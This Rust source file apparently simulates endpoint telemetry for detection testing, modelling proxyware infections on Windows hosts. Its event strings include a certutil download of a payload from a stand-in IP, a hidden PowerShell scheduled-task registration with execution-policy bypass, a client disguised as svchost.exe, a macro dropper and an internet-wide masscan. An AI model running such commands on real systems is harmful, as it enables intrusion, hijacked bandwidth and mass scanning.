//! Windows: bundles, databases, documents, renamed clients, and programs that no catalogue knows.

use super::relay::{Shape, USUAL, relay};
use crate::fleet::act::What;
use crate::fleet::day::{Day, made, program, renamed};

const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";
const SERVICES: &str = "C:\\Windows\\System32\\services.exe";
const SVCHOST: &str = "C:\\Windows\\System32\\svchost.exe";
const MICROSOFT: &str = "Microsoft Corporation";

fn user(day: &Day<'_>) -> (String, String) {
    (format!("CORP\\{}", day.host.person), format!("C:\\Users\\{}", day.host.person))
}

fn begins(day: &Day<'_>, lives: (i64, i64)) -> bool {
    lives.0 >= day.start
}

/// A downloader of videos brings a sharer along and sets it up as a task.
pub(super) fn bundled(day: &mut Day<'_>, lives: (i64, i64)) {
    let (user, home) = user(day);
    let setup = made(
        &format!("{home}\\Downloads\\YouTube-Downloader-setup.exe"),
        &user,
        "C:\\Windows\\explorer.exe",
        "",
    );
    let shell =
        made("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", &user, &setup.path, MICROSOFT);
    let client = made(
        &format!("{home}\\AppData\\Local\\Programs\\Honeygain\\Honeygain.exe"),
        &user,
        SVCHOST,
        "Honeygain",
    );
    if begins(day, lives) {
        day.start(lives.0, &setup, "YouTube-Downloader-setup.exe");
        day.start(lives.0 + 20, &shell, "powershell.exe -w hidden -ep bypass -c Register-ScheduledTask");
        day.act(lives.0 + 30, &client, What::Task);
    }
    day.start(lives.0.max(day.start) + 60, &client, "Honeygain.exe -silent");
    relay(day, &client, (lives.0 + 60, lives.1), USUAL);
}

/// A database with a weak password starts a sharer as a service.
pub(super) fn database(day: &mut Day<'_>, lives: (i64, i64)) {
    let sql = "C:\\Program Files\\Microsoft SQL Server\\MSSQL16\\MSSQL\\Binn\\sqlservr.exe";
    let cmd = made("C:\\Windows\\System32\\cmd.exe", "NT SERVICE\\MSSQLSERVER", sql, MICROSOFT);
    let client = program("C:\\ProgramData\\Traffmonetizer.exe", SYSTEM, SERVICES);
    if begins(day, lives) {
        day.start(
            lives.0,
            &cmd,
            "cmd.exe /c certutil -urlcache -f http://203.0.113.80/t.exe C:\\ProgramData\\Traffmonetizer.exe",
        );
        day.act(lives.0 + 20, &client, What::Service);
    }
    day.start(lives.0.max(day.start) + 30, &client, "Traffmonetizer.exe start accept --token Zm9v");
    relay(day, &client, (lives.0 + 30, lives.1), USUAL);
}

/// A client under the name of a system's program.
pub(super) fn renamed_client(day: &mut Day<'_>, lives: (i64, i64)) {
    let (user, home) = user(day);
    let client = renamed(
        &format!("{home}\\AppData\\Local\\Temp\\svchost.exe"),
        &user,
        "C:\\Windows\\System32\\cmd.exe",
        "",
        "pawns-cli.exe",
    );
    day.start(
        lives.0.max(day.start),
        &client,
        "svchost.exe -email=a@example.com -password=x -device-name=1 -accept-tos",
    );
    relay(day, &client, lives, USUAL);
}

/// A relay that nobody has named yet, under a folder that anybody may write to.
pub(super) fn unknown_relay(day: &mut Day<'_>, lives: (i64, i64)) {
    let client = program("C:\\Users\\Public\\Libraries\\winsrvc.exe", SYSTEM, SVCHOST);
    if begins(day, lives) {
        day.act(lives.0, &client, What::Task);
    }
    day.start(lives.0.max(day.start) + 5, &client, "winsrvc.exe -b");
    relay(day, &client, (lives.0 + 5, lives.1), Shape { again: 1800, ..USUAL });
}

/// A free program with a sharer's kit inside.
pub(super) fn sdk(day: &mut Day<'_>, lives: (i64, i64)) {
    let (user, home) = user(day);
    let client =
        made(&format!("{home}\\AppData\\Roaming\\DigitalPulse\\DigitalPulseService.exe"), &user, SVCHOST, "");
    if begins(day, lives) {
        day.act(lives.0, &client, What::Task);
    }
    day.start(lives.0.max(day.start) + 5, &client, "DigitalPulseService.exe");
    relay(day, &client, (lives.0 + 5, lives.1), USUAL);
}

/// A proxy as a service under a harmless name's folder.
pub(super) fn proxy_service(day: &mut Day<'_>, lives: (i64, i64)) {
    let server = program("C:\\Windows\\Temp\\3proxy.exe", SYSTEM, SERVICES);
    if begins(day, lives) {
        day.act(lives.0, &server, What::Service);
    }
    day.start(lives.0.max(day.start) + 5, &server, "3proxy.exe --service");
    let (from, until) = (lives.0, lives.1);
    for at in day.every(40, from, until) {
        let origin = (day.net.origin(&mut day.dice, false), 443);
        day.talk(at, 8, &server, origin, 2_000, 90_000);
    }
}

/// A document starts a script that starts a sharer.
pub(super) fn macro_dropper(day: &mut Day<'_>, lives: (i64, i64)) {
    let (user, home) = user(day);
    let word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let script = made("C:\\Windows\\System32\\wscript.exe", &user, word, MICROSOFT);
    let client = program(&format!("{home}\\AppData\\Roaming\\p2pclient.exe"), &user, &script.path);
    if begins(day, lives) {
        day.start(lives.0, &script, &format!("wscript.exe {home}\\invoice.js"));
    }
    day.start(lives.0.max(day.start) + 5, &client, "p2pclient.exe --login a@example.com");
    relay(day, &client, (lives.0 + 5, lives.1), USUAL);
}

/// A site's process starts a scanner.
pub(super) fn scanner(day: &mut Day<'_>, lives: (i64, i64)) {
    let scanner = program(
        "C:\\Windows\\Temp\\masscan.exe",
        "IIS APPPOOL\\shop",
        "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
    );
    day.start(lives.0.max(day.start), &scanner, "masscan.exe -p2375,6379 0.0.0.0/0 --rate 1000");
    for at in day.every(20, lives.0, lives.0 + 3600) {
        for n in 0..12 {
            let target = (day.net.resident(&mut day.dice), 2375);
            day.talk(at + n, 1, &scanner, target, 60, 0);
        }
    }
}
